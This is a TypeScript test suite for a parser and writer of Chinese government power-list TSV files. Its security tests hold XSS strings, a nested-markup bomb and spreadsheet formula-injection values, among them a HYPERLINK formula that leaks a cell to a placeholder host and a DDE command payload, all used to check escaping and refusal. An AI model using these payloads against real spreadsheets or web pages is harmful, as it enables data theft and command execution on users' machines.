import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import type { TPowerItem } from '../contracts/power-list.js';
import { DomainError } from '../domain/errors.js';
import { buildPowerItem } from '../domain/powerlist/build-item.js';
import { TRUNCATION_MARK } from '../domain/powerlist/cell-entries.js';
import { renderPowerItem } from '../domain/powerlist/render-item.js';
import { propertyRuns, rowCells, soupRowCells } from '../domain/powerlist/row-cells.arbitraries.js';
import { COMPLETE_MARK } from '../domain/powerlist/truncation.js';
import { PROGRESS_EVERY, readPowerListTsv, writePowerListTsv } from './power-list-tsv.js';

const BUNDLED_BYTES = readFileSync(new URL('../../data/powerlists/liuzhou-secrecy-bureau.tsv', import.meta.url));
const BUNDLED_TEXT = BUNDLED_BYTES.toString('utf8');
const bundled = readPowerListTsv(BUNDLED_BYTES);

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

/** The DomainError reading `text` throws. */
function readError(text: string | Uint8Array): DomainError {
  try {
    readPowerListTsv(typeof text === 'string' ? utf8(text) : text);
  } catch (error) {
    if (error instanceof DomainError) return error;
    throw error;
  }
  throw new Error('expected the file to be refused');
}

/** The bundled file with line `lineNo` (1-based) replaced. */
function withLine(lineNo: number, edit: (line: string) => string): string {
  const lines = BUNDLED_TEXT.split('\n');
  lines[lineNo - 1] = edit(lines[lineNo - 1] ?? '');
  return lines.join('\n');
}

const LIST_FIELDS = ['legalBases', 'duties', 'dutyBases', 'accountability', 'accountabilityBases'] as const;

describe('readPowerListTsv on the bundled list', () => {
  it('reads the title and the seven items in order', () => {
    expect(bundled.title).toBe('柳州市国家保密局权责清单');
    expect(bundled.encoding).toBe('utf-8');
    expect(bundled.items.map((item) => item.no)).toEqual([1, 2, 3, 4, 5, 6, 7]);
    expect(bundled.items.map((item) => item.category)).toEqual([
      '行政处罚',
      '行政强制',
      '行政强制',
      '行政检查',
      '行政检查',
      '行政确认',
      '其他行政权力',
    ]);
    expect(bundled.items[0]?.name).toBe('对非法获取、持有国家秘密载体的处罚');
    expect(bundled.items[6]?.name).toBe('涉密信息系统投入使用前的保密审查');
    expect(bundled.items.every((item) => item.subItem === null && item.note === null)).toBe(true);
  });

  it('flags exactly the twelve cells the exporter cut, on their last entry', () => {
    const flagged = bundled.items.flatMap((item) =>
      LIST_FIELDS.filter((field) => item[field].some((entry) => entry.truncated)).map((field) => `${item.no} ${field}`),
    );
    expect(flagged).toEqual([
      '1 duties', // 责任事项 … 以适当
      '1 dutyBases', // 责任事项依据 … 当事人或者有关人员
      '2 dutyBases', // 责任事项依据 … 【法律】《中华人
      '3 legalBases', // 实施依据 … 保守国家秘密法实施
      '3 dutyBases', // 责任事项依据 … 涉嫌犯罪
      '4 legalBases', // 实施依据 … 保密制度建
      '4 dutyBases', // 责任事项依据 … 查阅有关保密工作材料、
      '4 accountabilityBases', // 追责依据 … 《中华人民共和国公务
      '5 accountabilityBases', // 追责依据 … 《中华人民共和国公务
      '6 accountabilityBases', // 追责依据 … 3. 【法规】
      '7 duties', // 责任事项 … 投入使用许可证，并
      '7 dutyBases', // 责任事项依据 … 第十六条
    ]);
    for (const item of bundled.items) {
      for (const field of LIST_FIELDS) {
        const entries = item[field];
        // Only the last entry of a cell can be cut.
        expect(entries.slice(0, -1).every((entry) => !entry.truncated)).toBe(true);
      }
    }
    expect(bundled.items[0]?.duties.at(-1)?.text.endsWith('以适当')).toBe(true);
  });

  it('reads the duty names of every item', () => {
    expect(bundled.items.map((item) => item.duties.map((duty) => duty.name))).toEqual([
      ['立案', '调查取证', '审理'],
      ['通知', '监督执行', null],
      ['检查', '告知', '执行', '监督', null],
      ['告知', '检查', '督促整改', '监管', null],
      ['调查', '处理', '监督', null],
      ['审查', '送达', null],
      ['受理', '审查', '决定', '送达'],
    ]);
    expect(bundled.items[1]?.duties[2]?.text).toBe('其他法律法规规章文件规定应履行的责任。');
  });

  it('splits inline entries (item 5) and keeps the lead-in of the accountability cell', () => {
    const item5 = bundled.items[4];
    expect(item5?.duties.map((duty) => duty.text)).toEqual([
      '对发现的泄密案件线索组织进行调查。',
      '对存在违反保密法律法规事实，需要追究责任的，提出处理建议。',
      '监督案发单位对有关责任人员依法作出处理。',
      '其他法律法规规章文件规定应履行的责任。',
    ]);
    expect(item5?.accountabilityPreamble).toBe('下列情形的，行政机关及相关工作人员应承担相应责任：');
    expect(item5?.accountability.map((clause) => clause.no)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(bundled.items[0]?.accountability).toHaveLength(7);
    expect(bundled.items[0]?.accountabilityPreamble?.startsWith('因不履行或不正确履行行政职责')).toBe(true);
  });

  it('keeps the （一）（二） of quoted law inside their citation (item 4 追责依据)', () => {
    const bases = bundled.items[3]?.accountabilityBases ?? [];
    expect(bases.map((citation) => citation.no)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(bases[0]?.text).toContain('（四）违反本法第十八条关于委托处罚的规定的。');
  });

  it('resolves 3.同1. to citation 1 of the cell', () => {
    const bases = bundled.items[0]?.accountabilityBases ?? [];
    const third = bases[2];
    expect(third?.no).toBe(3);
    expect(third?.sameAs).toBe(1);
    expect(third?.title).toBe('中华人民共和国行政强制法');
    expect(third?.articles).toEqual(bases[0]?.articles);
    expect(third?.articles[0]?.article).toBe(61);
  });

  it('reads a GBK copy, a CRLF copy and a copy with a UTF-8 BOM to the same list', () => {
    const gbk = readPowerListTsv(iconv.encode(BUNDLED_TEXT, 'gbk'));
    expect(gbk.encoding).toBe('gb18030');
    expect(gbk.items).toEqual(bundled.items);
    expect(gbk.title).toBe(bundled.title);
    expect(readPowerListTsv(utf8(BUNDLED_TEXT.replace(/\n/g, '\r\n'))).items).toEqual(bundled.items);
    expect(readPowerListTsv(new Uint8Array([0xef, 0xbb, 0xbf, ...BUNDLED_BYTES])).items).toEqual(bundled.items);
    expect(readPowerListTsv(iconv.encode(BUNDLED_TEXT.replace(/\n/g, '\r\n'), 'gb18030')).items).toEqual(bundled.items);
  });

  it('reads a copy with every cell quoted (csv-parse path) to the same list', () => {
    const quoted = BUNDLED_TEXT.split('\n')
      .map((line) =>
        line.includes('\t')
          ? line
              .split('\t')
              .map((cell) => `"${cell.replace(/"/g, '""')}"`)
              .join('\t')
          : line,
      )
      .join('\n');
    expect(readPowerListTsv(utf8(quoted)).items).toEqual(bundled.items);
  });

  it('renders every item back to itself', () => {
    for (const item of bundled.items) expect(buildPowerItem(renderPowerItem(item))).toEqual(item);
  });
});

describe('readPowerListTsv on other layouts', () => {
  it('maps columns by header name, whatever their order and spelling', () => {
    const lines = BUNDLED_TEXT.split('\n');
    const swap = (line: string): string => {
      const cells = line.split('\t');
      return [cells[2], cells[0], cells[1], ...cells.slice(3)].join('\t');
    };
    const reordered = lines.map((line) => (line.includes('\t') ? swap(line) : line)).join('\n');
    expect(readPowerListTsv(utf8(reordered)).items).toEqual(bundled.items);
    const spelled = BUNDLED_TEXT.replace(/^序号\t权力分类\t项目名称/gm, '<p>序 号</p>\t权力分类：\t 项目名称 ');
    expect(readPowerListTsv(utf8(spelled)).items).toEqual(bundled.items);
    const fullWidth = BUNDLED_TEXT.replace(/^序号/gm, '序　号');
    expect(readPowerListTsv(utf8(fullWidth)).items).toEqual(bundled.items);
  });

  it('reads quoted cells with line breaks and tabs inside, and counts lines after them', () => {
    const text = ['标题', '序号\t权力分类\t项目名称', '1\t"行政\n处罚"\t"名称\t甲"', '2\t行政检查\t'].join('\n');
    const error = readError(text);
    expect(error.message).toContain('项目名称不能为空');
    expect(error.message).toBe('第 5 行第 3 个单元格（“项目名称”）：第 2 项的项目名称不能为空。');
    expect(error.location).toEqual({ line: 5, column: 3 });
    const list = readPowerListTsv(utf8(text.replace(/\t$/, '\t检查')));
    expect(list.items.map((item) => [item.category, item.name])).toEqual([
      // a name or category wrapped inside its cell is one name
      ['行政处罚', '名称 甲'],
      ['行政检查', '检查'],
    ]);
  });

  it('reads a header-only file as an empty list and a file without a title', () => {
    expect(readPowerListTsv(utf8('序号\t权力分类\t项目名称\n'))).toEqual({ title: '', items: [], encoding: 'utf-8' });
  });

  it('reports progress every few hundred rows and at the end', () => {
    const rows = Array.from({ length: 1200 }, (_, i) => `${i + 1}\t行政检查\t事项${i + 1}`);
    const text = ['标题', '序号\t权力分类\t项目名称', ...rows].join('\n');
    const calls: [number, number][] = [];
    const list = readPowerListTsv(utf8(text), { onProgress: (done, total) => calls.push([done, total]) });
    expect(list.items).toHaveLength(1200);
    expect(calls).toEqual([
      [PROGRESS_EVERY, 1202],
      [PROGRESS_EVERY * 2, 1202],
      [1202, 1202],
    ]);
  });
});

describe('readPowerListTsv refuses what is not a list', () => {
  it('refuses a file without a header', () => {
    const error = readError('柳州市国家保密局权责清单\n1\t行政处罚\t名称\n');
    expect(error.code).toBe('malformed-file');
    expect(error.message).toContain('未找到表头');
    expect(readError('').message).toContain('未找到表头');
  });

  it('refuses a row with a cell too few, pointing at its end', () => {
    // Line 12 is item 3; join its 子项 and 实施依据 cells.
    const text = withLine(12, (line) => line.replace('\t\t', '\t'));
    const error = readError(text);
    expect(error.message).toContain('第 12 行第 9 个单元格：此行有 9 个单元格，而第 11 行的表头有 10 列');
    expect(error.location).toEqual({ line: 12, column: 9 });
  });

  it('refuses a row with a cell too many, pointing at the first extra cell', () => {
    const error = readError(withLine(15, (line) => `${line}\t多余`));
    expect(error.message).toContain('第 15 行第 11 个单元格：此行有 11 个单元格');
    expect(error.location).toEqual({ line: 15, column: 11 });
  });

  it('refuses a repeated 序号, naming both lines', () => {
    const error = readError(withLine(9, (line) => line.replace(/^2\t/, '1\t')));
    expect(error.message).toBe('第 9 行第 1 个单元格（“序号”）：序号 1 重复：第 6 行已有序号 1 的事项。');
    expect(error.location).toEqual({ line: 9, column: 1 });
  });

  it('refuses an invalid 序号 or an empty name at its cell', () => {
    const badNo = readError(withLine(18, (line) => line.replace(/^5\t/, '五\t')));
    expect(badNo.code).toBe('malformed-file');
    expect(badNo.message).toContain('序号“五”不是正整数');
    expect(badNo.location).toEqual({ line: 18, column: 1 });
    const noName = readError(withLine(21, (line) => line.replace('对政府拟公开信息的保密确定', '')));
    expect(noName.message).toContain('项目名称不能为空');
    expect(noName.message).toBe('第 21 行第 3 个单元格（“项目名称”）：第 6 项的项目名称不能为空。');
    expect(noName.location).toEqual({ line: 21, column: 3 });
  });

  it('keeps an unknown column as an extra field, refuses a repeated one and rows without any 权力分类', () => {
    expect(readPowerListTsv(utf8('序号\t权力分类\t项目名称\t颜色\n1\t行政检查\t名称\t红\n')).items[0]?.extraFields).toEqual([
      { header: '颜色', value: '红' },
    ]);
    expect(readError('序号\t权力分类\t项目名称\t权力类别\n').message).toBe(
      '第 1 行第 4 个单元格（“权力类别”）：表头中“权力分类”列出现了两次（另一次在第 2 列），无法确定以哪一列为准；请删除或改名其中一列。',
    );
    expect(readError('序号\t项目名称\n1\t名称\n').message).toBe(
      '第 2 行：第 1 项的权力分类不能为空。表头中没有“权力分类”列，且此行之前没有“一、行政处罚”这样的分类标题行。',
    );
  });

  it('refuses content under a column without a name', () => {
    const error = readError('序号\t权力分类\t项目名称\t\n1\t行政检查\t名称\t内容\n');
    expect(error.message).toBe(
      '第 2 行第 4 个单元格：该单元格有内容，但表头中这一列没有列名；请为该列补上列名（无法识别的列名会作为附加栏目保留），或删除该内容。',
    );
    expect(error.location).toEqual({ line: 2, column: 4 });
  });

  it('refuses a quote that is never closed, pointing at it', () => {
    const error = readError('标题\n序号\t权力分类\t项目名称\n1\t"行政处罚\t名称\n');
    expect(error.message).toContain('引号未闭合');
    expect(error.location).toEqual({ line: 3, column: 2 });
  });
});

describe('writePowerListTsv', () => {
  const written = writePowerListTsv(bundled);

  it('writes the layout of the bundled file', () => {
    const shape = (text: string): string[] =>
      text
        .split('\n')
        .map((line) => (line === '' ? 'blank' : line.startsWith('序号\t') ? 'header' : /^\d+\t/.test(line) ? 'row' : 'title'));
    expect(shape(written)).toEqual(shape(BUNDLED_TEXT));
    expect(written.split('\n')[4]).toBe(BUNDLED_TEXT.split('\n')[4]);
    expect(written.split('\n')[5]?.split('\t').slice(0, 4)).toEqual(['1', '行政处罚', '对非法获取、持有国家秘密载体的处罚', '']);
    expect(written).toContain(
      `<p>1.立案责任：通过举报、检查，发现涉嫌非法获取、持有国家秘密载体的行为，予以审查，决定是否立案。</p> <p>2.调查取证责任：`,
    );
    expect(written).toContain(`以适当${TRUNCATION_MARK}</p>`);
  });

  it('reads back to the same list', () => {
    const again = readPowerListTsv(utf8(written));
    expect(again.title).toBe(bundled.title);
    expect(again.items).toEqual(bundled.items);
    expect(writePowerListTsv(again)).toBe(written);
  });

  it('escapes HTML and keeps markup-like text as text', () => {
    const item = { ...(bundled.items[0] as TPowerItem), name: '<script>alert("x")</script> & 名称', note: '<img src=x onerror=alert(1)>' };
    const text = writePowerListTsv({ title: 'A & <B>', items: [item] });
    expect(text).not.toContain('<script>');
    expect(text).not.toContain('<img');
    const again = readPowerListTsv(utf8(text));
    expect(again.title).toBe('A & <B>');
    expect(again.items[0]?.name).toBe(item.name);
    expect(again.items[0]?.note).toBe(item.note);
  });

  it('writes an empty list that reads back', () => {
    expect(readPowerListTsv(utf8(writePowerListTsv({ title: '空清单', items: [] })))).toEqual({
      title: '空清单',
      items: [],
      encoding: 'utf-8',
    });
  });

  it('round-trips lists of items built from cells as lists write them, or from any text of their pieces', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.oneof(rowCells, soupRowCells), { maxLength: 5, selector: (cells) => cells.no }),
        fc.constantFrom('', '某局权责清单', 'A & <B> "引"'),
        (rows, title) => {
          const items = rows.map(buildPowerItem);
          const again = readPowerListTsv(utf8(writePowerListTsv({ title, items })));
          expect(again.title).toBe(title);
          expect(again.items).toEqual(items);
        },
      ),
      { numRuns: propertyRuns(150) },
    );
  });

  it('round-trips cells that rendering lengthens into ones that would read as cut', () => {
    // 国务院令646号 and 第45条 are written 国务院令第646号 and 第四十五条, a numbered continuation
    // repeats its source: the cell grows past the threshold and ends without final punctuation.
    const quote = '保密工作部门应当依据保密法律法规和保密技术标准对涉密信息系统的相关材料进行审查';
    const cell = [1, 2, 3, 4].map((no) => `${no}.${no === 1 ? '【法规】《实施条例》（国务院令646号）' : ''}第45条 ${quote}`).join('\n');
    const item = buildPowerItem({ ...renderPowerItem(bundled.items[0] as TPowerItem), legalBases: cell });
    expect(item.legalBases.map((c) => c.truncated)).toEqual([false, false, false, false]);
    const written = writePowerListTsv({ title: '清单', items: [item] });
    expect(written).toContain(COMPLETE_MARK);
    expect(readPowerListTsv(utf8(written)).items).toEqual([item]);
  });
});

describe('readPowerListTsv on a large list', () => {
  // No time budget here: on a loaded machine any bound is a coin toss (`npm run bench` measures the
  // speed against its target). A parser gone quadratic would still run into the test timeout.
  it('reads 10,000 items, reporting progress a bounded number of times', () => {
    const lines = BUNDLED_TEXT.split('\n');
    const header = lines[4] ?? '';
    const rows = lines.filter((line) => /^\d+\t/.test(line));
    const big: string[] = ['', '', '大清单', ''];
    for (let i = 0; i < 10_000; i += 1) big.push(header, (rows[i % rows.length] ?? '').replace(/^\d+/, String(i + 1)), '');
    const bytes = utf8(big.join('\n'));
    let progressCalls = 0;
    const list = readPowerListTsv(bytes, { onProgress: () => (progressCalls += 1) });
    expect(list.items).toHaveLength(10_000);
    expect(list.items[9_999]?.duties).toEqual(bundled.items[(9_999 % 7) as number]?.duties);
    expect(progressCalls).toBeLessThan(100);
  });
});

describe('readPowerListTsv and runaway markup (issue 9)', () => {
  it('refuses a cell of 200,000 nested <b>, naming its row and cell', () => {
    const bomb = `${'<b>'.repeat(200_000)}x${'</b>'.repeat(200_000)}`;
    const error = readError(`标题\n序号\t权力分类\t项目名称\t实施依据\n1\t行政检查\t名称\t${bomb}\n`);
    expect(error.code).toBe('malformed-file');
    expect(error.message).toBe(
      '第 3 行第 4 个单元格：单元格中的 HTML 标记超过 20000 个，不像是清单内容，无法导入；请清除该单元格的格式后重新导出。',
    );
    expect(error.location).toEqual({ line: 3, column: 4 });
  });

  it('refuses nesting too deep in a header-like or title line as well', () => {
    const deep = `${'<i>'.repeat(150)}序号${'</i>'.repeat(150)}`;
    expect(readError(`${deep}\t权力分类\t项目名称\n`).message).toMatch(/^第 1 行第 1 个单元格：单元格中的 HTML 标记嵌套超过 100 层/);
  });
});

describe('writePowerListTsv against formula injection (issue 9)', () => {
  const base = bundled.items[0];
  if (base === undefined) throw new Error('the bundled list has items');
  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点此")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1,2)', "'=already quoted"];

  it('writes every plain cell that a spreadsheet would run as a formula with a leading quote, and reads it back unchanged', () => {
    const list = {
      title: '=1+1',
      items: hostile.map((name, index) => ({
        ...base,
        no: index + 1,
        name,
        subItem: '@子项',
        extraFields: [{ header: '-编码', value: '=cmd' }],
      })),
    };
    const written = writePowerListTsv(list);
    for (const line of written.split('\n')) {
      for (const cell of line.split('\t')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(written).toContain("\t'=HYPERLINK(");
    expect(written).toContain("\t'@子项\t");
    expect(written.split('\n')[2]).toBe("'=1+1");
    const read = readPowerListTsv(utf8(written));
    expect(read.title).toBe('=1+1');
    expect(read.items.map((item) => [item.name, item.subItem, item.extraFields])).toEqual(
      hostile.map((name) => [name, '@子项', [{ header: '-编码', value: '=cmd' }]]),
    );
  });

  it('leaves <p> cells alone: they begin with <', () => {
    const list = { title: 't', items: [{ ...base, note: '=不是公式的备注\n第二段' }] };
    expect(writePowerListTsv(list)).toContain('<p>=不是公式的备注</p> <p>第二段</p>');
  });
});
